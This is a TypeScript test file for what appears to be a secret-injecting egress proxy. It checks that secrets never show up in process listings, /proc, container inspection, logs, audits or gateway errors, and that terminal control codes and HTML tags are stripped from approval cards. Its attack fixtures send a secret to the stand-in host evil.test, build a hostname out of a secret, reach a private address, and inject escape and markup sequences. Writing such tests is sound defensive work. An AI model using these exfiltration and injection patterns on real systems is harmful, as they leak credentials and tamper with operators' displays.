/** Families 28 and 29: where a secret may show by itself, and what a host or the code writes for the person's screen. */
import { execFileSync } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import Database from 'better-sqlite3'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { dockerOrSkip } from '../support/docker.ts'
import { attack } from '../support/egress-attack.ts'
import { createEgressKit, type EgressKit } from '../support/egress-kit.ts'
import { PUBLIC_ADDRESS } from '../support/egress-upstream.ts'
import { lookAtRunning } from '../support/running-containers.ts'
import { findSecret } from '../support/secret-search.ts'

const available = await dockerOrSkip()
const MIB = 1_048_576
const made = (): string => `demo-value-${randomBytes(16).toString('hex')}`

describe.skipIf(!available.available)(`what shows by itself ${available.reason}`, () => {
  const KEPT = made()
  const RAW = made()
  let kit: EgressKit

  beforeAll(async () => {
    kit = await createEgressKit()
    await kit.store('KEPT', KEPT)
    await kit.store('RAW', RAW)
  })
  afterAll(async () => {
    await kit?.[Symbol.asyncDispose]()
  })

  it('is neither value in inspect, ps, environ or the engine’s log while code uses both', async () => {
    const requestId = await kit.ask(
      `const headers = { authorization: 'Bearer ' + Deno.env.get('KEPT'), 'x-raw': Deno.env.get('RAW') }
      await (await fetch('https://api.demo.test:${kit.upstream.port}/hold', { headers })).text()`,
      { network: [kit.at('api.demo.test')], secrets: ['KEPT', { name: 'RAW', mode: 'raw' }] },
    )
    const held = kit.upstream.nextHeld()
    await kit.approve(requestId)
    const release = await held
    const places = new Map<string, Buffer>()
    const looked = await lookAtRunning(instanceId(), async (container, details) => {
      places.set(`inspect ${container.id}`, Buffer.from(JSON.stringify(details)))
      const top = await container.top({ ps_args: 'auxeww' })
      places.set(`top ${container.id}`, Buffer.from(JSON.stringify(top)))
      expect(details.HostConfig.LogConfig).toMatchObject({ Type: 'none' })
      const limits = readFileSync(`/proc/${details.State.Pid}/limits`, 'utf8')
      expect(limits, 'no core file is ever written').toMatch(/^Max core file size +0 +0 /m)
    })
    expect(looked).toBeGreaterThan(0)
    places.set('ps', execFileSync('ps', ['auxeww'], { maxBuffer: 64 * MIB }))
    for (const pid of readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name))) {
      for (const file of ['environ', 'cmdline']) {
        try {
          places.set(`/proc/${pid}/${file}`, readFileSync(`/proc/${pid}/${file}`))
        } catch {
          // The process has gone, or is a thread of the kernel.
        }
      }
    }
    release()
    expect((await kit.finished(requestId)).status).toBe('success')
    expect(kit.upstream.seen.at(-1)?.headers).toMatchObject({ authorization: `Bearer ${KEPT}`, 'x-raw': RAW })
    expect(findSecret(places, KEPT)).toEqual([])
    expect(findSecret(places, RAW)).toEqual([])
  })

  it('is not a secret in an error of the gateway, the audit, the log or the database', async () => {
    // One name leads nowhere, one to a host whose certificate does not name it, one into a private network.
    kit.names.set('unnamed.demo.test', () => [PUBLIC_ADDRESS])
    kit.names.set('private.demo.test', () => ['10.0.0.1'])
    const { report, answer } = await attack(
      kit,
      `const headers = { authorization: 'Bearer ' + key('KEPT'), 'x-key': key('KEPT') }
      tell('unreachable', await get('https://gone.demo.test:' + PORT + '/', { headers }))
      tell('not verified', await get('https://unnamed.demo.test:' + PORT + '/', { headers }))
      tell('private', await get('https://private.demo.test:' + PORT + '/', { headers }))
      tell('elsewhere', await get('https://evil.test/' + key('KEPT') + '?k=' + key('KEPT'), { headers }))
      tell('path', await get('https://api.demo.test:' + PORT + '/echo/' + key('KEPT'), { headers }))
      tell('malformed', await tunnelled('api.demo.test:' + PORT, 'GET /' + key('KEPT') + ' HTTP/9.9\\r\\n' + key('KEPT') + '\\r\\n\\r\\n'))
      tell('CONNECT', await raw('CONNECT ' + key('KEPT') + '.evil.test:443 HTTP/1.1\\r\\n\\r\\n'))
      const thrown = await fetch('https://' + key('KEPT') + '.api.demo.test:1/', { headers }).then((a) => a.text(), (error) => error.stack)
      tell('thrown', thrown)
      console.error(new Error('with ' + key('KEPT')).stack)`,
      {
        network: ['gone', 'unnamed', 'private', 'api'].map((name) => kit.at(`${name}.demo.test`)),
        secrets: ['KEPT'],
        shown: true,
      },
    )
    expect(report.unreachable.rule).toBe('unreachable')
    expect(report['not verified'].rule).toBe('tls_not_verified')
    expect(report.private.rule).toBe('address_not_public')
    await kit.card(answer.request_id)
    const rows = (await kit.audit(answer.request_id)).filter(({ event }) => event.startsWith('egress.'))
    expect(rows.length).toBeGreaterThanOrEqual(6)
    const places = new Map([...kit.evidence(), ['report', Buffer.from(JSON.stringify(report))] as const])
    expect(findSecret(places, KEPT)).toEqual([])
    for (const { text } of Object.values(report))
      expect(text ?? '').not.toMatch(/127\.0\.0\.1|169\.254|10\.0\.0/)
  })

  it('is no control sequence, tag or line of its own on the card, from output, host or path', async () => {
    const { report, answer } = await attack(
      kit,
      `const nasty = '\\u001b[2J\\u001b]0;owned\\u0007<b>bold</b><a href="tg://x">tap</a>&lt;\\u202e'
      console.log(nasty); console.error(nasty)
      const bytes = textOf(new TextEncoder().encode(nasty))
      tell('host', await raw('CONNECT ' + bytes + ':443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'))
      tell('plain host', await raw('CONNECT <b>bold</b>.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'))
      tell('named', await raw('CONNECT xn--b-bold.test:443 HTTP/1.1\\r\\nHost: xn--b-bold.test:443\\r\\n\\r\\n'))
      tell('path', await tunnelled('api.demo.test:' + PORT, 'GET /<b>' + bytes + ' HTTP/1.1\\r\\nHost: api.demo.test:' + PORT + '\\r\\nConnection: close\\r\\n\\r\\n'))
      tell('path that passes', await get('https://api.demo.test:' + PORT + '/<b>&amp;%1b[2J'))`,
      { network: [kit.at('api.demo.test')], shown: true },
    )
    expect(report.host).toBeDefined()
    await kit.card(answer.request_id)
    const card = kit.daemon.telegram.messages.find(
      ({ text }) => text.includes(answer.request_id) && text.includes('⛔'),
    )
    expect(card).toBeDefined()
    for (const control of ['\u001b', '\u0007', '\u202e']) expect(card?.source).not.toContain(control)
    const { body } = await kit.daemon.admin('GET', '/v1/audit?limit=1000')
    expect(JSON.stringify(body)).not.toMatch(/\\u001b|\\u0007|\u202e/)
    const tags = new Set(card?.entities.map(({ type }) => type))
    expect([...tags].filter((type) => !['b', 'code', 'pre'].includes(type))).toEqual([])
    expect(card?.entities.some(({ type, text }) => type === 'b' && text === 'bold')).toBe(false)
  })

  function instanceId(): string {
    const db = new Database(join(kit.daemon.folder, 'data', 'proxy.db'), { readonly: true })
    try {
      return String(db.prepare("SELECT value FROM installation WHERE key = 'instance_id'").pluck().get())
    } finally {
      db.close()
    }
  }
})
